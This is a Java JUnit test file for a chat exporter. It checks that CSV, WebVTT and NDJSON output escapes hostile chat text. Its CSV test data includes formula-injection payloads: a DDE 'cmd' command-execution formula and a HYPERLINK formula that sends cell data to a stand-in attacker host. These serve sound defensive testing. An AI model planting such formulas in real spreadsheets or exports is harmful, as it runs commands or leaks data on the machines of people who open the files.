package dev.streamside.chat.export;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.CsvRecord;
import dev.streamside.chat.log.entry.Author;
import dev.streamside.chat.log.entry.Quote;
import dev.streamside.chat.log.query.LoggedChat;
import dev.streamside.platform.id.MemberId;
import dev.streamside.platform.id.StreamId;
import java.io.IOException;
import java.io.StringWriter;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

class ExportFormatTest {
    private static final Instant START = Instant.parse("2026-01-25T13:00:00.000Z");
    private static final String HOSTILE = "\"</script>\", <b>&amp;\r\n--> \u2028 안녕 👋";

    /// Cells that OWASP lists, others that spreadsheets took for a formula, and some that they rewrite.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(1+1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(1)",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
                "\"=1+1",
                "\";=1+1;\"",
                "'=1+1",
                "2-1",
                "007",
                "912003344556611111",
                "hello"
            })
    void whatPeopleSay_isMarkedAsText(String text) throws IOException {
        CsvRecord row = rows(write(ExportFormat.CSV, chat(text, text, 1))).get(1);

        assertThat(row.getField(4)).isEqualTo("'" + text);
        assertThat(row.getField(6)).isEqualTo("'" + text);
    }

    @Test
    void csv_hasEveryChatInARowOfItsOwn_whateverItSays() throws IOException {
        String csv = write(ExportFormat.CSV, chat("Name, \"quoted\"", HOSTILE, 61_001), chat("민준", "plain", 61_002));

        assertThat(csv).startsWith("\uFEFF\"seq\",");
        List<CsvRecord> rows = rows(csv);
        assertThat(rows).hasSize(3);
        assertThat(rows.get(0).getFields())
                .containsExactly("seq", "sentAt", "offsetMillis", "authorId", "authorName", "badge", "text", "replyTo");
        assertThat(rows.get(1).getFields())
                .containsExactly(
                        "61001",
                        "'2026-01-25T13:01:01.001Z",
                        "61001",
                        "'7",
                        "'Name, \"quoted\"",
                        "OWNER",
                        "'" + HOSTILE,
                        "3");
        assertThat(rows.get(2).getField(4)).isEqualTo("'민준");
    }

    @Test
    void webVtt_isEscaped_andShiftedToTheRecording() throws IOException {
        var out = new StringWriter();
        ChatWriter writer = ExportFormat.VTT.writer(out, new ExportedStream(new StreamId(1), START, 60_000), true);
        writer.write(chat("before", "the recording", 59_999));
        writer.write(chat("a <v>\n", HOSTILE, 3_661_001));

        assertThat(out.toString()).isEqualTo("""
                WEBVTT

                3661001
                01:00:01.001 --> 01:00:06.001
                <v a &lt;v&gt; >"&lt;/script&gt;", &lt;b&gt;&amp;amp; --&gt; \u2028 안녕 👋

                """);
    }

    @Test
    void ndjson_isOneObjectALine() throws IOException {
        String lines = write(ExportFormat.NDJSON, chat("a", HOSTILE, 61_001), chat("b", "plain", 61_002));

        assertThat(lines.lines()).hasSize(2);
        JsonNode first = JsonMapper.shared().readTree(lines.lines().findFirst().orElseThrow());
        assertThat(first.get("seq").asString()).isEqualTo("61001");
        assertThat(first.get("offsetMillis").asLong()).isEqualTo(61_001);
        assertThat(first.at("/author/name").asString()).isEqualTo("a");
        assertThat(first.get("text").asString()).isEqualTo(HOSTILE);
        assertThat(first.get("replyTo").asString()).isEqualTo("3");
        assertThat(first.get("mentions").toString()).isEqualTo("[\"5\"]");
    }

    @Test
    void aFileThatGoesOn_doesNotBeginAgain() throws IOException {
        for (ExportFormat format : ExportFormat.values()) {
            var whole = new StringWriter();
            ChatWriter writer = format.writer(whole, stream(), true);
            writer.write(chat("a", "one", 1));
            writer.write(chat("b", "two", 2));
            var rest = new StringWriter();
            format.writer(rest, stream(), false).write(chat("b", "two", 2));

            assertThat(whole.toString()).isEqualTo(write(format, chat("a", "one", 1)) + rest);
        }
    }

    /// Some languages have their own digits.
    @Test
    void theLanguageOfTheMachine_changesNothing() throws IOException {
        Locale usual = Locale.getDefault();
        for (ExportFormat format : ExportFormat.values()) {
            String expected = write(format, chat("a", "one", 61_001));
            try {
                Locale.setDefault(Locale.forLanguageTag("ar-EG"));
                assertThat(write(format, chat("a", "one", 61_001))).isEqualTo(expected);
            } finally {
                Locale.setDefault(usual);
            }
        }
    }

    private static ExportedStream stream() {
        return new ExportedStream(new StreamId(1), START, 0);
    }

    private static String write(ExportFormat format, LoggedChat... chats) throws IOException {
        var out = new StringWriter();
        ChatWriter writer = format.writer(out, stream(), true);
        for (LoggedChat chat : chats) {
            writer.write(chat);
        }
        return out.toString();
    }

    private static List<CsvRecord> rows(String csv) {
        return CsvReader.builder().ofCsvRecord(csv.substring(1)).stream().toList();
    }

    /// The number of the message is also its time in the stream, in milliseconds.
    private static LoggedChat chat(String author, String text, long seq) {
        return new LoggedChat(
                seq,
                new Author(new MemberId(7), author, null, "OWNER"),
                text,
                null,
                START.plusMillis(seq),
                false,
                Quote.gone(3),
                "[\"5\"]");
    }
}
